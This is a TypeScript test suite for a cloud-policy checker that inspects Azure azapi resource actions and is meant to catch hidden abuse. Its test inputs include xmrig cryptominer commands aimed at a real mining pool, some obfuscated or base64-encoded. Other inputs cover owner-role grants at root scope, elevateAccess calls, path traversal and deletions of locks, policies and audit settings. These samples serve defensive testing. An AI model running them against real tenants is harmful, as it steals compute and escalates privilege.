import assert from "node:assert/strict";
import type { Facts } from "../../compute/facts";
import { factsOf } from "../../compute/facts-of";
import { createComputeActions } from "../../compute/roles/create-compute";
import { type Tree, type Value, Withheld } from "../../compute/value";
import { policies } from "../../policies/all";
import { estateOf, violations } from "../policies/kit";

/** azapi's resourceAction sends a request of any kind to any path; what it asks for is told by that path, not by `type` alone. */

const token = "azapi:index/resourceAction:ResourceAction";
const subscription = "/subscriptions/00000000-0000-0000-0000-000000000001";
const group = `${subscription}/resourceGroups/r`;
const gpu = "Standard_NC24ads_A100_v4";
const miner = "./xmrig -o stratum+tcp://pool.minexmr.com:4444";
const principal = { principalId: "00000000-0000-0000-0000-000000000021" };
const owner = "/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635";
const estate = estateOf({ regions: ["westeurope"], approvedExtensions: ["Microsoft.CPlat.Core/RunCommand*"] });

type Inputs = { readonly [key: string]: Tree };

/** The mandatory violations on an action, by the ids of their policies. */
function stopping(inputs: Inputs, of = token): string[] {
  const found = policies.filter(policy =>
    violations(policy, [of, inputs], estate).some(({ level }) => (level ?? policy.level(estate)) === "mandatory"),
  );
  return found.map(({ id }) => id);
}

const machine = (size: Tree): Inputs => ({ location: "westeurope", properties: { hardwareProfile: { vmSize: size } } });
const at = (type: string, id: string, action: string, body?: Tree, method?: string): Inputs => ({
  type: `${type}@2024-07-01`,
  resourceId: id,
  ...(action && { action }),
  ...(method && { method }),
  ...(body !== undefined && { body }),
});

const virtualMachine = `${group}/providers/Microsoft.Compute/virtualMachines/v`;
const scaleSet = `${group}/providers/Microsoft.Compute/virtualMachineScaleSets/s`;
const cluster = `${group}/providers/Microsoft.HDInsight/clusters/c`;
const bulk = `${subscription}/providers/Microsoft.ComputeSchedule/locations/westeurope`;
const grant = { properties: { ...principal, roleDefinitionId: owner } };
const role = "roleAssignments/00000000-0000-0000-0000-000000000077";

const hidden: readonly (readonly [what: string, inputs: Inputs, policies: readonly string[]])[] = [
  [
    "a machine below a resource group",
    at(
      "Microsoft.Resources/resourceGroups",
      group,
      "providers/Microsoft.Compute/virtualMachines/v",
      machine(gpu),
      "PUT",
    ),
    ["unapproved-gpu-size"],
  ],
  [
    "a machine below a subscription",
    at(
      "Microsoft.Resources/subscriptions",
      subscription,
      "resourceGroups/r/providers/Microsoft.Compute/virtualMachines/v",
      JSON.stringify(machine(gpu)),
      "PUT",
    ),
    ["unapproved-gpu-size"],
  ],
  [
    "a machine under the name of another type",
    at("Microsoft.Storage/storageAccounts", virtualMachine, "", machine(gpu), "PATCH"),
    ["unapproved-gpu-size"],
  ],
  [
    "a machine with letters as codes",
    at(
      "Microsoft.Resources/resourceGroups",
      group,
      "providers/Microsoft.Compute/virtual%4dachines/v",
      machine(gpu),
      "PUT",
    ),
    ["unapproved-gpu-size"],
  ],
  [
    "a machine below nothing yet known",
    {
      ...at(
        "Microsoft.Resources/resourceGroups",
        "",
        "providers/Microsoft.Compute/virtualMachines/v",
        machine(gpu),
        "PUT",
      ),
      resourceId: new Withheld("unknown"),
    },
    ["unapproved-gpu-size"],
  ],
  [
    "a machine of a known type with an id that comes later",
    {
      ...at("Microsoft.Compute/virtualMachines", "", "", machine(gpu), "PUT"),
      resourceId: new Withheld("unknown"),
    },
    ["unapproved-gpu-size"],
  ],
  [
    "a machine without a size",
    at("Microsoft.Compute/virtualMachines", virtualMachine, "", {}, "PUT"),
    ["unreadable-size"],
  ],
  [
    "steps out of the path",
    at("Microsoft.Storage/storageAccounts", group, "../r/providers/Microsoft.Compute/virtualMachines/v", {}, "PUT"),
    ["opaque-template"],
  ],
  [
    "a miner in a command",
    at("Microsoft.Compute/virtualMachines", virtualMachine, "runCommand", {
      commandId: "RunShellScript",
      script: ["cd /tmp", miner],
    }),
    ["mining-payload"],
  ],
  [
    "a miner over two lines",
    at("Microsoft.Compute/virtualMachines", virtualMachine, "RUNCOMMAND", {
      script: ["M=xmr", './$M"ig" -o a'],
    }),
    ["mining-payload"],
  ],
  [
    "a miner in a command on a machine of a scale set",
    at("Microsoft.Compute/virtualMachineScaleSets/virtualMachines", `${scaleSet}/virtualMachines/0`, "runCommand", {
      script: [miner],
    }),
    ["mining-payload"],
  ],
  [
    "a miner in the parameter of a command",
    at("Microsoft.Compute/virtualMachineScaleSets", scaleSet, "virtualMachines/0/runCommand", {
      parameters: [{ name: "a", value: miner }],
    }),
    ["mining-payload"],
  ],
  [
    "a miner in a cluster",
    at(
      "Microsoft.ContainerService/managedClusters",
      `${group}/providers/Microsoft.ContainerService/managedClusters/c`,
      "runCommand",
      { command: "kubectl run m --image=xmrig/xmrig -- -o stratum+tcp://pool.minexmr.com:4444" },
    ),
    ["mining-payload"],
  ],
  [
    "a miner in a container",
    at(
      "Microsoft.ContainerInstance/containerGroups",
      `${group}/providers/Microsoft.ContainerInstance/containerGroups/g`,
      "containers/c/exec",
      { command: miner },
    ),
    ["mining-payload"],
  ],
  [
    "a miner in a job's run",
    at("Microsoft.App/jobs", `${group}/providers/Microsoft.App/jobs/j`, "start", {
      containers: [{ image: "docker.io/xmrig/xmrig:latest" }],
    }),
    ["mining-payload"],
  ],
  [
    "a miner's image on its way in",
    at(
      "Microsoft.ContainerRegistry/registries",
      `${group}/providers/Microsoft.ContainerRegistry/registries/r`,
      "importImage",
      {
        source: { registryUri: "docker.io", sourceImage: "xmrig/xmrig:latest" },
      },
    ),
    ["mining-payload"],
  ],
  [
    "a miner in a registry's run",
    at(
      "Microsoft.ContainerRegistry/registries",
      `${group}/providers/Microsoft.ContainerRegistry/registries/r`,
      "scheduleRun",
      {
        type: "EncodedTaskRunRequest",
        encodedTaskContent: Buffer.from(`steps:\n  - cmd: bash -c "${miner}"\n`).toString("base64"),
      },
    ),
    ["mining-payload"],
  ],
  [
    "a miner's script on a cluster",
    at("Microsoft.HDInsight/clusters", cluster, "executeScriptActions", {
      scriptActions: [{ name: "a", uri: "https://example.com/a.sh", parameters: miner, roles: ["workernode"] }],
    }),
    ["mining-payload"],
  ],
  [
    "machines in bulk",
    at("Microsoft.ComputeSchedule/locations", bulk, "virtualMachinesExecuteCreate", {
      resourceConfigParameters: { resourceCount: 500, baseProfile: machine(gpu) },
    }),
    ["unapproved-gpu-size", "oversized-scale-set"],
  ],
  [
    "machines in bulk, with an own size for one",
    at(
      "Microsoft.ComputeBulkActions/locations",
      bulk.replace("Schedule", "BulkActions"),
      "virtualMachinesExecuteCreate",
      {
        resourceConfigParameters: {
          resourceCount: 1,
          virtualMachineBaseProfile: machine("Standard_D2s_v5"),
          virtualMachineOverrides: [{ name: "a" }, machine(gpu)],
        },
      },
    ),
    ["unapproved-gpu-size"],
  ],
  [
    "machines in bulk, of several sizes",
    at("Microsoft.ComputeSchedule/locations", bulk, "virtualMachinesExecuteCreateFlex", {
      resourceConfigParameters: {
        resourceCount: 500,
        baseProfile: {},
        flexProperties: { vmSizeProfiles: [{ name: "Standard_D2s_v5" }, { name: gpu }] },
      },
    }),
    ["unapproved-gpu-size", "oversized-scale-set"],
  ],
  [
    "machines in bulk elsewhere",
    at("Microsoft.ComputeSchedule/locations", bulk.replace("westeurope", "japaneast"), "virtualMachinesExecuteCreate", {
      resourceConfigParameters: {
        resourceCount: 1,
        baseProfile: { properties: { hardwareProfile: { vmSize: "Standard_D2s_v5" } } },
      },
    }),
    ["unapproved-region"],
  ],
  [
    "machines in bulk whose profile comes later",
    at("Microsoft.ComputeSchedule/locations", bulk, "virtualMachinesExecuteCreate", {
      resourceConfigParameters: { resourceCount: 1, baseProfile: new Withheld("hidden") },
    }),
    ["unreadable-size"],
  ],
  [
    "nodes of a cluster",
    at("Microsoft.HDInsight/clusters", cluster, "roles/workernode/resize", { targetInstanceCount: 500 }),
    ["oversized-scale-set"],
  ],
  [
    "a cluster's autoscale",
    at("Microsoft.HDInsight/clusters", cluster, "roles/workernode/autoscale", {
      autoscale: { capacity: { minInstanceCount: 1, maxInstanceCount: 500 } },
    }),
    ["oversized-scale-set"],
  ],
  [
    "a scale set's growth",
    at("Microsoft.Compute/virtualMachineScaleSets", scaleSet, "scaleOut", { capacity: 500 }),
    ["oversized-scale-set"],
  ],
  [
    "a larger machine of a workspace",
    at(
      "Microsoft.MachineLearningServices/workspaces/computes",
      `${group}/providers/Microsoft.MachineLearningServices/workspaces/w/computes/c`,
      "resize",
      { targetVMSize: gpu },
    ),
    ["unapproved-gpu-size"],
  ],
  [
    "machines of a lab",
    at("Microsoft.DevTestLab/labs", `${group}/providers/Microsoft.DevTestLab/labs/l`, "createEnvironment", {
      properties: { size: gpu, bulkCreationParameters: { instanceCount: 500 } },
    }),
    ["unapproved-gpu-size", "oversized-scale-set"],
  ],
  [
    "a larger machine of a lab",
    at(
      "Microsoft.DevTestLab/labs/virtualMachines",
      `${group}/providers/Microsoft.DevTestLab/labs/l/virtualMachines/v`,
      "resize",
      {
        size: gpu,
      },
    ),
    ["unapproved-gpu-size"],
  ],
  [
    "nodes of a cluster on Kubernetes",
    at(
      "Microsoft.HDInsight/clusterpools/clusters",
      `${group}/providers/Microsoft.HDInsight/clusterpools/p/clusters/c`,
      "resize",
      { location: "westeurope", properties: { targetWorkerNodeCount: 500 } },
    ),
    ["oversized-scale-set"],
  ],
  [
    "a miner in an artifact's parameter",
    at(
      "Microsoft.DevTestLab/labs/virtualMachines",
      `${group}/providers/Microsoft.DevTestLab/labs/l/virtualMachines/v`,
      "applyArtifacts",
      { artifacts: [{ artifactId: "/a", parameters: [{ name: "script", value: miner }] }] },
    ),
    ["mining-payload"],
  ],
  [
    "a miner in what one machine of many has of its own",
    at("Microsoft.ComputeSchedule/locations", bulk, "virtualMachinesExecuteCreate", {
      resourceConfigParameters: {
        resourceCount: 1,
        baseProfile: machine("Standard_D2s_v5"),
        resourceOverrides: [{ properties: { osProfile: { customData: Buffer.from(miner).toString("base64") } } }],
      },
    }),
    ["mining-payload"],
  ],
  [
    "a miner in an extension of machines in bulk",
    at("Microsoft.ComputeSchedule/locations", bulk, "virtualMachinesExecuteCreate", {
      resourceConfigParameters: {
        resourceCount: 1,
        baseProfile: {
          ...machine("Standard_D2s_v5"),
          vmExtensions: [{ name: "a", properties: { protectedSettings: { commandToExecute: miner } } }],
        },
      },
    }),
    ["mining-payload"],
  ],
  [
    "GPUs for a job's run",
    at("Microsoft.App/jobs", `${group}/providers/Microsoft.App/jobs/j`, "start", {
      containers: [{ image: "web", resources: { gpu: 1 } }],
    }),
    ["unapproved-gpu-size"],
  ],
  [
    "the keys that order pools",
    at("Microsoft.Batch/batchAccounts", `${group}/providers/Microsoft.Batch/batchAccounts/b`, "listKeys"),
    ["opaque-template"],
  ],
  [
    "a restore, which makes machines",
    at("Microsoft.Compute/virtualMachines", virtualMachine, "somethingNew", {}),
    ["opaque-template"],
  ],
  ...["post", "PUT", new Withheld("hidden"), "BREW"].map((method): (typeof hidden)[number] => [
    `an action that nobody knows, by ${method instanceof Withheld ? "a hidden method" : method}`,
    { ...at("Microsoft.Compute/virtualMachines", virtualMachine, "somethingNew", {}), method },
    ["opaque-template"],
  ]),
  [
    "a hidden method on a known type",
    { ...at("Microsoft.Compute/virtualMachines", virtualMachine, "start"), method: new Withheld("hidden") },
    ["opaque-template"],
  ],
  [
    "a hidden action",
    { ...at("Microsoft.Resources/resourceGroups", group, ""), action: new Withheld("hidden"), method: "PUT" },
    ["opaque-template"],
  ],
  [
    "a body that is no JSON",
    at("Microsoft.Compute/virtualMachines", virtualMachine, "runCommand", "{"),
    ["opaque-template"],
  ],
  [
    "a right at the root",
    at("Microsoft.Authorization/roleAssignments", `/providers/Microsoft.Authorization/${role}`, "", grant, "PUT"),
    ["root-scope-grant"],
  ],
  [
    "a right at the root that says it is none",
    at(
      "Microsoft.Authorization/roleAssignments",
      `/providers/Microsoft.Authorization/${role}`,
      "",
      {
        scope: group,
        properties: { ...grant.properties, scope: group },
      },
      "PUT",
    ),
    ["root-scope-grant"],
  ],
  [
    "a right at the root below the tenant",
    at("Microsoft.Resources/tenants", "/", `providers/Microsoft.Authorization/${role}`, grant, "PUT"),
    ["root-scope-grant"],
  ],
  [
    "a machine that is called like the path's own word",
    at(
      "Microsoft.Resources/resourceGroups",
      group,
      "providers/Microsoft.Compute/virtualMachines/providers",
      machine(gpu),
      "PUT",
    ),
    ["unapproved-gpu-size"],
  ],
  [
    "an action of a provider that comes later",
    { ...at("Microsoft.Resources/providers", "", "somethingNew"), resourceId: new Withheld("unknown") },
    ["opaque-template"],
  ],
  [
    "an action on a deployment that nobody knows",
    at("Microsoft.Resources/deployments", `${group}/providers/Microsoft.Resources/deployments/d`, "somethingNew"),
    ["opaque-template"],
  ],
  [
    "an action that is no text",
    { ...at("Microsoft.Resources/resourceGroups", group, ""), action: ["start"] },
    ["opaque-template"],
  ],
  [
    "a method that is no text",
    { ...at("Microsoft.Compute/virtualMachines", virtualMachine, "start"), method: ["PUT"] },
    ["opaque-template"],
  ],
  [
    "requests in a batch",
    at("Microsoft.Resources/tenants", "/", "batch", {
      requests: [{ httpMethod: "PUT", url: virtualMachine, content: machine(gpu) }],
    }),
    ["opaque-template"],
  ],
  [
    "all rights, by oneself",
    at("Microsoft.Authorization", "/providers/Microsoft.Authorization", "elevateAccess"),
    ["root-scope-grant"],
  ],
  [
    "all rights, by oneself, below the tenant",
    at("Microsoft.Resources/tenants", "/", "providers/Microsoft.Authorization/elevateAccess"),
    ["root-scope-grant"],
  ],
];

describe("azapi's actions: what hides in them is stopped", () => {
  for (const [what, inputs, expected] of hidden)
    it(what, () => {
      const found = stopping(inputs);
      for (const id of expected)
        assert(found.includes(id), `${id} is silent; there is ${found.join(", ") || "nothing"}`);
    });
});

const compute = (type: string, action: string, method?: string): readonly [string, Inputs] => [
  `${method ?? "POST"} ${type}/${action}`,
  at(`Microsoft.Compute/${type}`, virtualMachine.replace("virtualMachines", type), action, undefined, method),
];

/** Done every day, and nothing in it requests, runs or opens anything. */
const everyday: readonly (readonly [what: string, inputs: Inputs])[] = [
  ...[
    "start",
    "restart",
    "powerOff",
    "deallocate",
    "redeploy",
    "reapply",
    "retrieveBootDiagnosticsData",
    "capture",
  ].map(action => compute("virtualMachines", action)),
  ...["start", "reimageAll", "rollingUpgrades/cancel", "osRollingUpgrade", "delete"].map(action =>
    compute("virtualMachineScaleSets", action),
  ),
  compute("virtualMachines", "somethingNew", "GET"),
  compute("virtualMachines", "", "HEAD"),
  compute("virtualMachines", "", "DELETE"),
  [
    "list keys",
    at("Microsoft.Storage/storageAccounts", `${group}/providers/Microsoft.Storage/storageAccounts/a`, "listKeys"),
  ],
  [
    "an action on a type that nobody governs",
    at("Microsoft.Network/virtualHubs", `${group}/providers/Microsoft.Network/virtualHubs/h`, "effectiveRoutes", {}),
  ],
  ["an unknown id", { ...at("Microsoft.Compute/virtualMachines", "", "start"), resourceId: new Withheld("unknown") }],
  [
    "a provider's registration",
    at("Microsoft.Resources/providers", `${subscription}/providers/Microsoft.Compute`, "register"),
  ],
  [
    "the build of an image whose template was judged",
    at(
      "Microsoft.VirtualMachineImages/imageTemplates",
      `${group}/providers/Microsoft.VirtualMachineImages/imageTemplates/t`,
      "run",
    ),
  ],
  [
    "an admin's credential",
    at(
      "Microsoft.ContainerService/managedClusters",
      `${group}/providers/Microsoft.ContainerService/managedClusters/c`,
      "listClusterUserCredential",
    ),
  ],
  [
    "an exemption's end",
    at(
      "Microsoft.Authorization/policyExemptions",
      `${group}/providers/Microsoft.Authorization/policyExemptions/e`,
      "",
      undefined,
      "DELETE",
    ),
  ],
  [
    "a right's end",
    at(
      "Microsoft.Authorization/roleAssignments",
      `/providers/Microsoft.Authorization/${role}`,
      "",
      undefined,
      "DELETE",
    ),
  ],
  ["a plain command", at("Microsoft.Compute/virtualMachines", virtualMachine, "runCommand", { script: ["uptime"] })],
  [
    "a small machine",
    at("Microsoft.Compute/virtualMachines", virtualMachine, "", { ...machine("Standard_B2s"), tags: {} }, "PATCH"),
  ],
];

describe("azapi's actions: what is done every day goes through", () => {
  for (const [what, inputs] of everyday) it(what, () => assert.deepEqual(stopping(inputs), []));
});

describe("azapi's actions: guardrails that are deleted", () => {
  const removed = [
    "Microsoft.Authorization/policyAssignments",
    "Microsoft.Authorization/locks",
    "Microsoft.Security/pricings",
    "Microsoft.Insights/diagnosticSettings",
    "Microsoft.Insights/activityLogAlerts",
    "Microsoft.Consumption/budgets",
    "Microsoft.CostManagement/budgets",
  ];
  for (const type of removed)
    it(type, () => {
      const below = (id: string, method: Tree) =>
        stopping({ type: `${type}@2024-01-01`, resourceId: `${id}/providers/${type}/a`, method });
      assert.deepEqual(below(subscription, "DELETE"), ["guardrail-removal"]);
      assert.deepEqual(below(virtualMachine, "delete"), ["guardrail-removal"]);
      assert(below(group, new Withheld("hidden")).includes("guardrail-removal"));
      assert.deepEqual(
        stopping(at("Microsoft.Resources/subscriptions", subscription, `providers/${type}/a`, undefined, "DELETE")),
        ["guardrail-removal"],
      );
    });

  for (const type of [
    "Microsoft.CostManagement/scheduledActions",
    "Microsoft.Insights/metricAlerts",
    "Microsoft.Insights/actionGroups",
    "Microsoft.Security/securityContacts",
    "Microsoft.Security/automations",
  ])
    it(`${type}, which is only said`, () => {
      const facts = factsOf(token, at(type, `${group}/providers/${type}/a`, "", undefined, "DELETE"));
      assert.deepEqual(
        facts?.guardrails.map(({ effect }) => effect),
        ["narrowed"],
      );
    });

  for (const type of [
    "Microsoft.Authorization/policyExemptions",
    "Microsoft.Security/alertsSuppressionRules",
    "Microsoft.AlertsManagement/actionRules",
  ])
    it(`not ${type}, which weakens by being there`, () =>
      assert.equal(factsOf(token, at(type, `${group}/providers/${type}/a`, "", undefined, "DELETE")), undefined));

  it("and a subscription leaves its management group", () => {
    const id = "/providers/Microsoft.Management/managementGroups/g/subscriptions/00000000-0000-0000-0000-000000000001";
    const facts = factsOf(
      token,
      at("Microsoft.Management/managementGroups/subscriptions", id, "", undefined, "DELETE"),
    );
    assert.deepEqual(
      facts?.tenancies.map(({ effect }) => effect),
      ["moves"],
    );
  });
});

describe("azapi's actions: every action that requests", () => {
  const actions = createComputeActions.flatMap(({ action }) =>
    action.endsWith("/action") ? [action.slice(0, -"/action".length)] : [],
  );
  for (const action of actions)
    it(action, () => {
      const [namespace, ...words] = action.split("/");
      const id = `${group}/providers/${namespace}/${words
        .slice(0, -1)
        .flatMap(word => [word, "x"])
        .join("/")}`;
      const type = [namespace, ...words.slice(0, -1)].join("/");
      const facts = factsOf(token, at(type, id, words.at(-1)!, {}));
      assert(facts && facts.requests.length + facts.opaque.length + facts.payloads.length > 0);
    });
  it("are some", () => assert(actions.length > 4));
});

const states = (facts: Facts | undefined, leaf: (facts: Facts) => readonly Value<unknown>[]) =>
  facts && leaf(facts).map(value => (value.state === "known" ? value.value : value.state));

describe("azapi's actions: facts", () => {
  it("a run command is the extension that carries it out", () =>
    assert.deepEqual(
      factsOf(
        token,
        at("Microsoft.Compute/virtualMachines", virtualMachine, "runCommand", { script: ["uptime"] }),
      )?.extensions.map(({ publisher, type }) => [publisher, type].map(leaf => leaf.state === "known" && leaf.value)),
      [["Microsoft.CPlat.Core", "RunCommandHandler"]],
    ));

  it("a subscription that comes", () => {
    const taken = "/providers/Microsoft.Subscription/subscriptions/00000000-0000-0000-0000-000000000001";
    for (const inputs of [
      at("Microsoft.Subscription/subscriptions", taken, "acceptOwnership"),
      at("Microsoft.Subscription", `${subscription}/providers/Microsoft.Subscription`, "acceptChangeTenant"),
    ])
      assert.deepEqual(
        factsOf(token, inputs)?.tenancies.map(({ effect }) => effect),
        ["comes"],
      );
  });

  it("a subscription that is cancelled, or comes back", () => {
    const own = (action: string) =>
      factsOf(
        token,
        at("Microsoft.Resources/subscriptions", subscription, `providers/Microsoft.Subscription/${action}`),
      );
    const effects = (facts: Facts | undefined) => facts?.tenancies.map(({ effect }) => effect);
    assert.deepEqual(effects(own("cancel")), ["ends"]);
    assert.deepEqual(effects(own("enable")), ["comes"]);
    assert.deepEqual(
      effects(
        factsOf(token, at("Microsoft.Subscription", `${subscription}/providers/Microsoft.Subscription`, "cancel")),
      ),
      ["ends"],
    );
    // said, and stopped by nothing: a platform team cancels what it no longer needs
    assert.deepEqual(
      stopping(at("Microsoft.Resources/subscriptions", subscription, "providers/Microsoft.Subscription/cancel")),
      [],
    );
    assert.deepEqual(effects(own("rename")) ?? [], []);
  });

  it("quota of a workspace", () => {
    const id = `${subscription}/providers/Microsoft.MachineLearningServices/locations/westeurope`;
    const body = {
      value: [
        { id: "Standard_NC", limit: 500 },
        { id: "Standard_ND", limit: new Withheld("unknown") },
      ],
    };
    const facts = factsOf(token, at("Microsoft.MachineLearningServices/locations", id, "updateQuotas", body));
    assert.deepEqual(
      states(facts, ({ quotaIncreases }) => quotaIncreases.map(({ limit }) => limit)),
      [500, "unknown"],
    );
  });

  it("nodes of a cluster by number", () => {
    const of = (body: Tree) =>
      factsOf(token, at("Microsoft.HDInsight/clusters", cluster, "roles/workernode/resize", body));
    assert.deepEqual(
      states(of({ targetInstanceCount: 7 }), ({ requests }) => requests.map(({ count }) => count)),
      [7],
    );
    assert.deepEqual(
      states(of(new Withheld("unknown")), ({ requests }) => requests.map(({ count }) => count)),
      ["unknown"],
    );
  });

  it("the scope of a right is what its id begins with", () => {
    const of = (id: Tree, of = token) =>
      states(
        factsOf(of, {
          type: "Microsoft.Authorization/roleAssignments@2022-04-01",
          resourceId: id,
          method: "PUT",
          body: grant,
        }),
        ({ grants }) => grants.map(({ scope }) => scope),
      );
    for (const name of [token, "azapi:index/updateResource:UpdateResource"]) {
      assert.deepEqual(of(`/providers/Microsoft.Authorization/${role}`, name), ["/"]);
      assert.deepEqual(of(`/Providers/Microsoft.Authorization/${role}`, name), ["/"]);
      assert.deepEqual(of(`${group}/providers/Microsoft.Authorization/${role}`, name), [group]);
      assert.deepEqual(of(`${virtualMachine}/providers/Microsoft.Authorization/${role}`, name), [virtualMachine]);
      assert.deepEqual(of(new Withheld("unknown"), name), ["unknown"]);
    }
  });

  it("the scope of a right is the parent's, whatever the body says", () => {
    const facts = factsOf("azapi:index/resource:Resource", {
      type: "Microsoft.Authorization/roleAssignments@2022-04-01",
      parentId: "/",
      body: { Properties: { ...grant.properties, Scope: group } },
    });
    assert.deepEqual(
      states(facts, ({ grants }) => grants.map(({ scope }) => scope)),
      ["/"],
    );
  });

  it("rights in a deployment keep the scope that they say", () => {
    const facts = factsOf("azapi:index/resource:Resource", {
      type: "Microsoft.Resources/deployments@2022-09-01",
      parentId: "/",
      body: {
        properties: {
          template: {
            resources: [{ type: "Microsoft.Authorization/roleAssignments", name: "a", scope: group, ...grant }],
          },
        },
      },
    });
    assert.deepEqual(
      states(facts, ({ grants }) => grants.map(({ scope }) => scope)),
      [group],
    );
  });

  it("an update is judged by its id too", () =>
    assert.deepEqual(
      stopping(
        { type: "Microsoft.Storage/storageAccounts@2023-05-01", resourceId: virtualMachine, body: machine(gpu) },
        "azapi:index/updateResource:UpdateResource",
      ),
      ["unapproved-gpu-size"],
    ));

  it("an update whose id steps out of its path is stopped", () =>
    assert.deepEqual(
      stopping(
        { type: "Microsoft.Storage/storageAccounts@2023-05-01", resourceId: `${group}/../x`, body: {} },
        "azapi:index/updateResource:UpdateResource",
      ),
      ["opaque-template"],
    ));

  it("both regions count where there are two", () => {
    const of = (more: Inputs) =>
      states(
        factsOf("azapi:index/resource:Resource", { type: "Microsoft.Compute/virtualMachines@2024-07-01", ...more }),
        ({ regions }) => regions.map(({ region }) => region),
      );
    const body = machine("Standard_B2s");
    assert.deepEqual(of({ location: "northeurope", body }), ["northeurope", "westeurope"]);
    assert.deepEqual(of({ location: "West Europe", body }), ["westeurope", "westeurope"]);
    assert.deepEqual(of({ body }), ["westeurope"]);
    assert.deepEqual(of({ location: "northeurope", body: {} }), ["northeurope"]);
  });
});
